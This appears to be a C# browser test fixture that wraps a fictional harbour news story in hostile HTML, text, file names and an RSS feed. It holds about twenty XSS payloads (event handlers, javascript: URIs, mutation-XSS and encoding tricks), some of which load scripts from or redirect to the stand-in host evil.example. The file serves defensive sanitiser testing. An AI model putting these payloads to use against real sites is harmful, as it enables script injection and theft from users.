using System.Text;
using System.Text.Json;

namespace Readout.Browser.Tests;

/// <summary>Pages written to attack whoever reads them: each shape of attack in each place that a page can fill in.</summary>
internal static class Corpus
{
    // Whatever comes alive calls alert, sets window.pwned, or asks evil.example for something.
    private static readonly string[] s_attacks =
    [
        "<script>window.pwned=1;alert(1)</script>",
        "</script><script src=//evil.example/x.js></script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg/onload=alert(1)>",
        "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
        "<template><img src=x onerror=alert(1)></template>",
        "</textarea></title></style></select></option><iframe src=javascript:alert(1)></iframe>",
        "<a href=\"javascript:alert(1)\">the harbour</a><a href='java\tscript:alert(1)'>again</a>",
        "<style>*{background:url(//evil.example/css)}</style><link rel=stylesheet href=//evil.example/x.css><link rel=preconnect href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example/'><base href=//evil.example/>",
        "<form action=//evil.example><button formaction=javascript:alert(1) autofocus>go</button></form>",
        "<details open ontoggle=alert(1)>x</details><input autofocus onfocus=alert(1)><video src=x onerror=alert(1)></video>",
        "<iframe srcdoc=\"<script>parent.pwned=1</script>\"></iframe><object data=//evil.example></object><embed src=//evil.example>",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} <div hx-get=//evil.example hx-trigger=load hx-on:load=alert(1)></div>",
        "\u2028alert(1)\u2029 \u202e<txirc>\u202c \u0000<scr\u0000ipt>alert(1)</script> +ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "]]><![CDATA[<script>alert(1)</script>]]><!--><img src=x onerror=alert(1)>-->",
        "&lt;img src=x onerror=alert(1)&gt; &amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt; &#60;svg onload=alert(1)&#62;",
        "<b hx-disable=false data-hx-get=//evil.example onclick=alert(1) style=position:fixed;inset:0 id=main class=close>x</b>",
    ];

    /// <summary>Pages in HTML and as text, a feed, a saved page; with names that attack, too.</summary>
    public static IEnumerable<(string Name, byte[] Bytes)> Pages() =>
        s_attacks.SelectMany((attack, i) => (IEnumerable<(string, byte[])>)
        [
            ($"h{i}.html", Encoding.UTF8.GetBytes(Html(attack, i))),
            ($"t{i} {Named(attack)}.txt", Encoding.UTF8.GetBytes(Text(attack, i))),
        ]).Append(("feed.xml", Encoding.UTF8.GetBytes(Feed())));

    // Some stand in the markup as it is, the same once more as words that are shown.
    private static string Html(string attack, int i) => $$"""
        <!doctype html><html lang="en"><head>
        <title>Ada Moll closes the harbour {{Words(attack)}}</title>
        <meta property="og:site_name" content="Orlen {{Words(attack)}} Courier">
        <meta property="og:image" content="//evil.example/{{i}}.png">
        <meta name="author" content="Jory {{Words(attack)}} Pell">
        <link rel="canonical" href="javascript:alert({{i}})">
        <meta property="article:published_time" content="2024-03-0{{1 + (i % 9)}}T10:00:00Z">
        <script type="application/ld+json">{"@type":"NewsArticle","headline":{{JsonSerializer.Serialize(attack)}},"datePublished":"2024-03-05","author":{"name":{{JsonSerializer.Serialize("Ina " + attack)}}},"publisher":{"name":{{JsonSerializer.Serialize(attack)}} }</script>
        </head><body onload="alert({{i}})"><article>
        <h1>Ada Moll closes the harbour {{Words(attack)}}</h1>
        <p>“The ferry {{Words(attack)}} will not sail on Friday,” Mayor Ada Moll told reporters in Orlen on Tuesday.</p>
        <p>Jory Pell, who runs the ferry, said that {{40 + i}} people had lost their jobs at the harbour in March {{Words(attack)}}.</p>
        <p>The council of Vask will meet on {{10 + i}} March if the storm {{Words(attack)}} ends, Ina Sorrel said on Tuesday.</p>
        <p>The harbour was closed for eleven days in February 2024 after a storm, the port authority said, and nobody was hurt.</p>
        {{attack}}
        <p>The authority reopened it in March 2024, the mayor said.</p>
        </article></body></html>
        """;

    private static string Text(string attack, int i) => $"""
        Ferry stops {attack}
        By Ina {attack} Sorrel
        {1 + (i % 28)} March 2024

        “The ferry {attack} will not sail on Friday,” Mayor Ada Moll said in Orlen on Tuesday. She blamed the storm.

        Jory Pell said that {60 + i} people had lost their jobs at the harbour in March. The council of Vask will meet on {3 + i} March {attack}, Pell said.

        Ina Sorrel, the port's head, said that the harbour was closed for twelve days in February 2024.
        """;

    private static string Feed() =>
        "<?xml version=\"1.0\"?><rss version=\"2.0\" xmlns:content=\"http://purl.org/rss/1.0/modules/content/\"><channel><title>Vask &lt;script&gt;alert(1)&lt;/script&gt; Post</title>"
        + string.Concat(s_attacks.Select((attack, i) => $"<item><title>{Words(Printable(attack))}</title><link>{(i % 2 == 0 ? "javascript:alert(1)" : $"https://vaskpost.example/{i}?a=%22%3E%3Cscript%3Ealert(1)%3C/script%3E")}</link><guid>{i}</guid><pubDate>Tue, 05 Mar 2024 10:00:00 GMT</pubDate><content:encoded>{Words(Printable(Html(attack, i)))}</content:encoded></item>"))
        + "</channel></rss>";

    private static string Words(string attack) => attack.Replace("&", "&amp;", StringComparison.Ordinal).Replace("<", "&lt;", StringComparison.Ordinal).Replace(">", "&gt;", StringComparison.Ordinal).Replace("\"", "&quot;", StringComparison.Ordinal);

    private static string Printable(string words) => words.Replace("\0", "", StringComparison.Ordinal);

    private static string Named(string attack) => new([.. attack.Where(c => c is not '/' and not '\\' and not '\0' && !char.IsControl(c)).Take(80)]);
}
